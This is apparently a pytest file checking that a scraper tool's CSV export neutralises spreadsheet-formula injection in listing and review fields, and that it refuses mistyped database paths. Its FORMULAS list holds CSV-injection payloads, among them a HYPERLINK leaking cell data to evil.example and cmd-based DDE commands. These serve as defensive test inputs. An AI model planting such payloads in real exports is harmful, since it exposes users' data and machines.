"""`backrank export`: store text that looks like a spreadsheet formula stays text in CSV, raw in
JSON lines; a mistyped --db is refused instead of created."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import asdict
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from helpers import SITE_TOML, write_catalog

from backrank.app.cli import main
from backrank.app.export import write_frame
from backrank.core.store import Store
from spiders.items import Listing, Review

CATALOG = SITE_TOML + '\n[[stores]]\nname = "shop-a"\nstart_urls = ["http://127.0.0.1:9/"]\n'
# What a hostile reviewer or store puts in a field, as the CSV-injection literature lists it.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def fill(store: Store) -> None:
    run = store.start_run("catalog.toml")
    listings = [
        asdict(
            Listing(
                store="shop-a", url=f"http://shop-a.test/p/{n}", platform="shopify",
                title=formula, brand=formula, sku=formula, mpn=formula, currency="USD",
                price=Decimal("19.99"), rating=4.5, review_count=3,
                fetched_at="2024-07-01T10:00:00+00:00",
            )
        )
        for n, formula in enumerate(FORMULAS)
    ]  # fmt: skip
    store.save_listings(run, listings)
    reviews = [
        asdict(
            Review(
                store="shop-a", url="http://shop-a.test/p/0", review_id=f"r{n}", author=formula,
                rating=5.0, title=formula, body=formula, date="2024-06-01",
            )
        )
        for n, formula in enumerate(FORMULAS)
    ]  # fmt: skip
    store.save_reviews(run, reviews)
    store.finish_run(run, "ok", {})


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    db = tmp_path / "backrank.db"
    with Store.open(db) as store:
        fill(store)
    return str(db)


def exported(tmp_path: Path, db: str, table: str, fmt: str) -> str:
    catalog = write_catalog(tmp_path, CATALOG)
    out = tmp_path / f"{table}.{fmt}"
    argv = ["export", table, "--catalog", str(catalog), "--db", db, "--format", fmt]
    assert main([*argv, "--output", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as stream:  # keep a cell's bare \r
        return stream.read()


@pytest.mark.parametrize(
    ("table", "columns"),
    [("offers", ["title", "brand", "sku", "mpn"]), ("reviews", ["author", "title", "body"])],
)
def test_csv_cells_that_start_a_formula_are_text(
    tmp_path: Path, hostile_db: str, table: str, columns: list[str]
) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(tmp_path, hostile_db, table, "csv"))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in columns:
            cell = row[column]
            assert cell.startswith("'"), f"{column} {cell!r} would run as a formula"
            assert cell[1:] in FORMULAS  # nothing else changed: the quote is the only addition


def test_jsonl_stays_raw(tmp_path: Path, hostile_db: str) -> None:
    lines = exported(tmp_path, hostile_db, "reviews", "jsonl").splitlines()
    assert sorted(json.loads(line)["body"] for line in lines) == sorted(FORMULAS)


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    frame = pd.DataFrame(
        {
            "title": ["Teeter X3", "-5 lb lighter", None],
            "price": [Decimal("-5.00"), Decimal("19.99"), None],
            "rating": [-1.5, 4.0, None],
            "review_count": pd.array([-3, 2, None], dtype="Int64"),
        }
    )
    stream = io.StringIO()
    write_frame(frame, "csv", stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[1] == ["Teeter X3", "-5.00", "-1.5", "-3"]
    assert rows[2] == ["'-5 lb lighter", "19.99", "4.0", "2"]
    assert rows[3] == ["", "", "", ""]


@pytest.mark.parametrize("command", [["export", "offers"], ["runs"], ["score"], ["build"]])
def test_a_mistyped_db_is_refused_not_created(tmp_path: Path, capsys, command) -> None:
    catalog = write_catalog(tmp_path, CATALOG)
    typo = tmp_path / "backrnak.db"
    argv = [*command, "--catalog", str(catalog), "--db", str(typo)]
    if command == ["build"]:
        argv += ["--out", str(tmp_path / "site")]
    assert main(argv) == 2
    message = capsys.readouterr().err.strip()
    assert len(message.splitlines()) == 1, message
    assert str(typo) in message and "does not exist" in message
    assert not typo.exists() and not (tmp_path / "site").exists()
